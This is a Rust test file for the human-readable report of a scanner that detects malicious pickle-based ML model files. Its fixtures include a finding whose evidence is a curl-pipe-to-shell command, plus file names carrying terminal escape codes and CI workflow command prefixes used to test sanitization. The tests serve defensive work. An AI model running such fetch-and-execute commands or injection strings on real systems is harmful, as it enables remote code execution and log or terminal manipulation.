use std::collections::BTreeMap;

use super::*;
use crate::{
    bytes::Span,
    facts::{Gap, GapCode},
    findings::{Artifact, Finding},
};

fn artifact(path: &str, coverage: Coverage) -> Artifact {
    let mut artifact = Artifact::new(path.into(), 25);
    artifact.formats = vec!["pickle"];
    artifact.coverage = coverage;
    artifact
}

fn evil(path: &str) -> Scanned {
    let mut finding = Finding::new("shell-command", Severity::Critical);
    finding.path = path.into();
    finding.title = "Loading the file runs a shell command".into();
    finding.message = "Loading calls `posix.system`".into();
    finding.members = vec!["archive/data.pkl".into()];
    finding.offset = Some(0x2f);
    finding.evidence.insert("expression".into(), "posix.system('curl x | sh')".into());
    finding.fix = "Do not load it.".into();
    Scanned { artifact: Some(artifact(path, Coverage::Complete)), findings: vec![finding], bytes: 25 }
}

fn cut(path: &str) -> Scanned {
    let mut artifact = artifact(path, Coverage::Partial);
    let detail = "the stream ends before STOP".to_owned();
    artifact.gaps.push(Gap { code: GapCode::Truncated, members: Vec::new(), span: Span::new(25, 0), detail });
    Scanned { artifact: Some(artifact), findings: Vec::new(), bytes: 25 }
}

fn written(files: &[Scanned], quiet: bool) -> String {
    let mut out = Vec::new();
    let why = "It runs with your rights. More\nof it.".to_owned();
    let why = BTreeMap::from([("shell-command".to_owned(), why)]);
    let mut text = Text::new(&mut out, Style::default()).why(why).quiet(quiet);
    let mut summary = Summary::default();
    text.begin(&Tool::new(String::new(), BTreeMap::new())).unwrap();
    for file in files {
        summary.count(file);
        text.file(file).unwrap();
    }
    summary.conclude(Some(Severity::High), false);
    text.end(&summary).unwrap();
    String::from_utf8(out).unwrap()
}

#[test]
fn the_worst_file_comes_first_with_all_that_a_person_needs() {
    let expected = "\
b.pt  pickle, 25 bytes
  critical  Loading calls `posix.system`
            at    b.pt!archive/data.pkl @ 0x2f
            does  posix.system('curl x | sh')
            why   It runs with your rights. More of it.
            fix   Do not load it.
            rule  shell-command  (mlscan explain shell-command)
  same in   1 more file: c.pt

a.pkl  pickle, 25 bytes
  not read: the stream ends before STOP (truncated)

Found: 2 critical; 1 model not fully read, so nobody can say what is in the rest.
";
    assert_eq!(written(&[cut("a.pkl"), evil("b.pt"), evil("c.pt")], true), expected);
}

#[test]
fn what_holds_for_a_rule_is_said_once() {
    let mut other = evil("other.pt");
    other.findings[0].message = format!("Loading calls `{}`", "long".repeat(30));
    let text = written(&[evil("a.pt"), other], false);
    assert_eq!(text.matches("fix   Do not load it.").count(), 1, "{text}");
    assert!(text.contains("rule  shell-command  (as above)"), "{text}");
    assert!(
        text.contains("critical  Loading the file runs a shell command\n            Loading calls"),
        "{text}"
    );
}

#[test]
fn what_a_finding_says_of_a_gap_is_not_said_again() {
    let mut file = cut("a.pkl");
    let mut finding = Finding::new("not-fully-read", Severity::Low);
    finding.path = "a.pkl".into();
    finding.offset = Some(25);
    finding.message = "A part was not read (truncated): the stream ends before STOP".into();
    file.findings.push(finding);
    let text = written(&[file], false);
    assert_eq!(text.matches("the stream ends before STOP").count(), 1, "{text}");
}

#[test]
fn a_clean_run_is_one_calm_line() {
    let clean = Scanned { artifact: Some(artifact("a", Coverage::Complete)), ..Scanned::default() };
    let line = "Nothing found in 1 model (1 pickle), 0 bytes; all of it was read.\n";
    assert_eq!(written(std::slice::from_ref(&clean), false), line);
    assert_eq!(written(&[clean], true), "");
    assert_eq!(written(&[Scanned::default()], true), "No model among 1 file: nothing was judged.\n");
}

#[test]
fn hostile_names_reach_no_terminal_and_start_no_command() {
    let text = written(&[evil("::error::\u{1b}[2J\n::x"), evil("##[group]\u{202e}")], false);
    assert!(!text.contains('\u{1b}') && !text.contains('\u{202e}') && !text.contains("##["), "{text}");
    assert!(text.lines().all(|line| !line.trim_start().starts_with("::")), "{text}");
}

#[test]
fn of_very_many_files_the_worst_are_told_and_the_others_named() {
    let files: Vec<Scanned> = (0..2000)
        .map(|number| {
            let mut file = cut(&format!("f{number:04}"));
            let detail = format!("it ends at {}", 1000 + number % 1999);
            file.artifact.as_mut().unwrap().gaps[0].detail = detail;
            file
        })
        .chain([evil("z")])
        .collect();
    let text = written(&files, false);
    assert!(text.starts_with("z  pickle, 25 bytes\n  critical"), "{text}");
    assert!(text.contains("And 1500 more files; --format json tells all of each:\n"));
    assert!(text.contains("\n  not read: f1998\n"));
    assert!(files.iter().all(|file| text.contains(&file.artifact.as_ref().unwrap().path.to_string())));
}

#[test]
fn files_that_only_begin_with_other_bytes_are_told_of_once() {
    let file = |path: &str, head: &str| {
        let mut file = cut(path);
        file.artifact.as_mut().unwrap().gaps[0].detail = format!("begins with {head}, which is no format");
        file
    };
    let text = written(&[file("a", "00 01 f0"), file("b", "ab cd ef"), file("c", "00")], false);
    assert!(text.contains("begins with 00 01 f0, which") && text.contains("2 more files: b, c"), "{text}");
}

#[test]
fn text_keeps_within_its_width() {
    let mut file = evil("a");
    file.findings[0].fix = "word ".repeat(100);
    assert!(written(&[file], false).lines().all(|line| line.chars().count() <= 100));
}
